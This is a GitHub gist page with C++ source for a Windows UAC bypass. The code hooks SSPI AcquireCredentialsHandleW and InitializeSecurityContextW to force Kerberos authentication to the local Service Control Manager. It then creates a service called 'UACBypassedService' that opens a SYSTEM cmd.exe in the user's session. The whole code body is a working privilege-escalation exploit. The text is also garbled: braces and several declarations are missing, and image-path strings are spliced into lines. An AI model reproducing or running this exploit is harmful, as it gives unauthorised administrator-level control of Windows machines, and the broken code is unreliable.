Skip to content

Instantly share code, notes, and snippets.

Created March 20, 2022 23:21
Show Gist options
  • Save tyranid/c24cfd1bd141d14d4925043ee7e03c82 to your computer and use it in GitHub Desktop.
Save tyranid/c24cfd1bd141d14d4925043ee7e03c82 to your computer and use it in GitHub Desktop.
Simple application to change the SCM APIs to use Kerberos for local authentication to bypass UAC.
// This modifies the authentication to the local SCM to use Kerberos to abuse
// a UAC bypass through Kerberos tickets.
// See
#define SECURITY_WIN32
#include <windows.h>
#include <sspi.h>
#include <security.h>
#include <stdio.h>
#include <string>
#include <strsafe.h>
#pragma comment(lib, "Secur32.lib")
static std::wstring spn;
SECURITY_STATUS SEC_ENTRY AcquireCredentialsHandleWHook(
_In_opt_ LPWSTR pszPrincipal, // Name of principal
_In_ LPWSTR pszPackage, // Name of package
_In_ unsigned long fCredentialUse, // Flags indicating use
_In_opt_ void* pvLogonId, // Pointer to logon ID
_In_opt_ void* pAuthData, // Package specific data
_In_opt_ SEC_GET_KEY_FN pGetKeyFn, // Pointer to GetKey() func
_In_opt_ void* pvGetKeyArgument, // Value to pass to GetKey()
_Out_ PCredHandle phCredential, // (out) Cred Handle
_Out_opt_ PTimeStamp ptsExpiry // (out) Lifetime (optional)
printf("AcquireCredentialsHandleHook called for package %ls\n", pszPackage);
if (_wcsicmp(pszPackage, L"Negotiate") == 0) {
pszPackage = kerberos_package;
printf("Changing to %ls package\n", pszPackage);
return AcquireCredentialsHandleW(pszPrincipal, pszPackage, fCredentialUse,
pvLogonId, pAuthData, pGetKeyFn, pvGetKeyArgument, phCredential, ptsExpiry);
SECURITY_STATUS SEC_ENTRY InitializeSecurityContextWHook(
_In_opt_ PCredHandle phCredential, // Cred to base context
_In_opt_ PCtxtHandle phContext, // Existing context (OPT)
_In_opt_ SEC_WCHAR* pszTargetName, // Name of target
_In_ unsigned long fContextReq, // Context Requirements_In_ unsigned long Reserved1, // Reserved, MBZ
_In_ unsigned long TargetDataRep, // Data rep of target
_In_opt_ PSecBufferDesc pInput, // Input Buffers
_In_ unsigned long Reserved2, // Reserved, MBZ
_Inout_opt_ PCtxtHandle phNewContext, // (out) New Context handle
_Inout_opt_ PSecBufferDesc pOutput, //(inout) Output Buffers
_Out_ unsigned long* pfContextAttr, // (out) Context attrs
_Out_opt_ PTimeStamp ptsExpiry // (out) Life span (OPT)
// Change the SPN to match with the UAC bypass ticket you've registered.
printf("InitializeSecurityContext called for target %ls\n", pszTargetName);
SECURITY_STATUS status = InitializeSecurityContextW(phCredential, phContext, &spn[0],
fContextReq, Reserved1, TargetDataRep, pInput,
Reserved2, phNewContext, pOutput, pfContextAttr, ptsExpiry);
printf("InitializeSecurityContext status = %08X\n", status);
return status;
int RunSystemProcess(const wchar_t* sid)
HANDLE hToken;
if (!OpenProcessToken(GetCurrentProcess(), TOKEN_DUPLICATE, &hToken))
printf("Error opening process token %d\n", GetLastError());
return 1;
HANDLE hPrimaryToken;
if (!DuplicateTokenEx(hToken, TOKEN_ALL_ACCESS, nullptr, SecurityAnonymous, TokenPrimary, &hPrimaryToken))
printf("Error duplicating process token %d\n", GetLastError());
return 1;
DWORD session_id = wcstoul(sid, nullptr, 0);
if (!SetTokenInformation(hPrimaryToken, TokenSessionId, &session_id, sizeof(session_id)))
printf("Error setting session ID %d\n", GetLastError());
return 1;
STARTUPINFO start_info = {};
WCHAR desktop[] = L"WinSta0\\Default";
start_info.cb = sizeof(start_info);start_info.lpDesktop = desktop;
start_info.wShowWindow = SW_SHOW;
WCHAR cmdline[] = L"cmd.exe";
if (!CreateProcessAsUser(hPrimaryToken, nullptr, cmdline, nullptr, nullptr, FALSE,
CREATE_NEW_CONSOLE, nullptr, nullptr, &start_info, &proc_info))
printf("Error creating process %d\n", GetLastError());
return 1;
printf("Created process ID %d\n", proc_info.dwProcessId);
return 0;
std::wstring GetExecutablePath()
if (GetModuleFileName(nullptr, path, MAX_PATH) != 0)
return path;
printf("Error getting executable path %d\n", GetLastError());
return L"";
int wmain(int argc, wchar_t** argv)
if (argc > 1)
return RunSystemProcess(argv[1]);
PSecurityFunctionTableW table = InitSecurityInterfaceW();
table->AcquireCredentialsHandleW = AcquireCredentialsHandleWHook;
table->InitializeSecurityContextW = InitializeSecurityContextWHook;
WCHAR computer_name[1000];
DWORD size = _countof(computer_name);
if (!GetComputerName(computer_name, &size))
printf("Error getting computer name %d\n", GetLastError());
return 1;
spn = L"HOST/";
spn += computer_name;
std::wstring exe = GetExecutablePath();
if (exe.empty())
return 1;
DWORD session_id = 0;
ProcessIdToSessionId(GetCurrentProcessId(), &session_id);
WCHAR cmdline[MAX_PATH];
StringCbPrintf(cmdline, sizeof(cmdline), L"\"%ls\" %d\n", exe.c_str(), session_id);
if (!hScm)
printf("Error opening SCM %d\n", GetLastError());
return 1;SC_HANDLE hService = CreateService(hScm, L"UACBypassedService", nullptr, SERVICE_ALL_ACCESS, SERVICE_WIN32_OWN_PROCESS,
SERVICE_DEMAND_START, SERVICE_ERROR_IGNORE, cmdline,nullptr, nullptr, nullptr, nullptr, nullptr);
if (!hService)
printf("Errorcreating service %d\n", GetLastError());
return 1;
if (!StartService(hService, 0, nullptr))
printf("Error starting service %d\n", GetLastError());
return 1;
return 0;
Sign up for free to join thisconversation on GitHub.Already have an account? Sign in to comment